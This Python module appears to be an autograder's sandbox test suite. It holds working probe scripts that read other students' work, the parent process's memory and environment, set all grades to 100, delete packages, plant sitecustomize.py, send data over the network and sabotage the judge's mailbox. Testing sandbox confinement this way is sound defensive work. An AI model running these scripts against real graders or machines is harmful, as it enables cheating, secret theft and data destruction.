"""Attacks on the class folder, the machine and the network. Each prints what it got."""

from __future__ import annotations

from .attack import ONE_POINT, Attack

_LOOK = """
import glob, os, socket, sys
def look(name, action):
    try:
        print(name, repr(action())[:2000])
    except BaseException as error:
        print(name, "refused:", type(error).__name__)
"""

_READ = (
    _LOOK
    + """
home = [os.path.dirname(path) for path in (os.__file__, sys.prefix, "/root/x", "/home/x", "/work/x", "/srv/x")]
for start in {*home, "/", "/tmp", "/var", "/mnt", os.getcwd()}:
    for pattern in ("*/.judge-seed", "*/*/.judge-seed", "*/solutions/*/lesson.py", "*/gradebook.db", "*/submitted/*/*"):
        for path in glob.glob(os.path.join(start, pattern)):
            look(path, lambda: open(path, errors="replace").read())
for up in range(1, 12):
    for name in (".judge-seed", "gradebook.db", "submitted", "source", "solutions", "nbgrader_config.py"):
        path = "../" * up + name
        look(path, lambda: os.listdir(path) if os.path.isdir(path) else open(path, errors="replace").read())
look("import solutions", lambda: __import__("autograder.course.chapter"))
look("import judge", lambda: __import__("autograder.judge.judge"))
"""
)

_GRADEBOOK = (
    _LOOK
    + """
import sqlite3
for path in ["../" * up + "gradebook.db" for up in range(12)]:
    def change():
        with sqlite3.connect(path) as gradebook:
            gradebook.execute("update grade set manual_score = 100")
            return "changed"
    look(path, change)
"""
)

_PARENT = (
    _LOOK
    + """
for process in {1, 2, os.getpid(), os.getppid(), *map(int, filter(str.isdigit, os.listdir("/proc")))}:
    for name in ("environ", "cmdline", "maps"):
        look(f"{process} {name}", lambda: open(f"/proc/{process}/{name}", "rb").read())
    look(f"{process} fd", lambda: [os.readlink(f"/proc/{process}/fd/{n}") for n in os.listdir(f"/proc/{process}/fd")])
    look(f"{process} root", lambda: os.listdir(f"/proc/{process}/root/root"))
def memory():
    found = []
    with open("/proc/1/maps") as maps, open("/proc/1/mem", "rb") as mem:
        for row in maps:
            low, high = (int(n, 16) for n in row.split()[0].split("-"))
            mem.seek(low)
            found.append(mem.read(min(high - low, 2**20)))
    return found
look("the parent's memory", memory)
look("environment", lambda: dict(os.environ))
"""
)

_WRITE = (
    _LOOK
    + """
import manyheads, torch, shutil
places = ["/", "/usr", "/etc", "/run", "/dev", "/var/tmp", sys.prefix, os.path.dirname(manyheads.__file__),
          os.path.dirname(torch.__file__), *("../" * up for up in range(1, 12)), "/dev/shm", "/tmp"]
for place in places:
    look(place, lambda: open(os.path.join(place, "left-by-a-learner"), "w").write("x"))
    look(place, lambda: os.symlink("/etc/hostname", os.path.join(place, "linked-by-a-learner")))
look("sitecustomize", lambda: open(os.path.join(os.path.dirname(torch.__file__), "../sitecustomize.py"), "w"))
look("delete", lambda: shutil.rmtree(os.path.dirname(manyheads.__file__)))
"""
)

_NETWORK = (
    _LOOK
    + """
import urllib.request
def connect(family, address):
    with socket.socket(family) as client:
        client.settimeout(0.3)
        client.connect(address)
        client.sendall(b"booty")
        return "CONNECTED"
def resolve():
    return "RESOLVED", socket.getaddrinfo("example.org", 80)
look("the web", lambda: ("FETCHED", urllib.request.urlopen("http://93.184.216.34/", timeout=0.3).read(10)))
look("a name", resolve)
for port in (22, 53, 80, 5432, 8786, 8888):
    look(port, lambda: connect(socket.AF_INET, ("127.0.0.1", port)))
look("IPv6", lambda: connect(socket.AF_INET6, ("::1", 8888)))
look("a raw socket", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
look("a packet", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"booty", ("8.8.8.8", 53)))
"""
)

# A letter is how the judge asks. These put something else in its place, or fill the room that it needs.
_LETTERS = """
import os
folder = "/run/mailbox"
for name in ("request", "answer"):
    os.remove(f"{folder}/{name}")
    os.symlink("/etc/ld.so.cache", f"{folder}/{name}")
"""
_FULL_LETTERS = """
number = 0
try:
    while True:
        with open(f"/run/mailbox/{number}", "wb") as file:
            number += 1
            for _ in range(8):
                file.write(bytes(2**20))
except OSError as error:
    print(number, error)
"""

ATTACKS = (
    Attack("reads-the-class", "read solutions, seed, gradebook and others' work", ONE_POINT, first=_READ),
    Attack("changes-the-gradebook", "give everybody 100 points in the database", ONE_POINT, first=_GRADEBOOK),
    Attack("reads-its-parent", "read the parent's memory, environment and files", ONE_POINT, first=_PARENT),
    Attack("writes-elsewhere", "leave files outside its scratch folder", ONE_POINT, first=_WRITE),
    Attack("network", "send what it has over the network", ONE_POINT, first=_NETWORK),
    Attack("letters-as-links", "have the judge read a file for it", first=_LETTERS, score=0, told="could not be read"),
    Attack("letters-filled", "leave the judge no room to ask", first=_FULL_LETTERS, score=0, told="could not be read"),
)
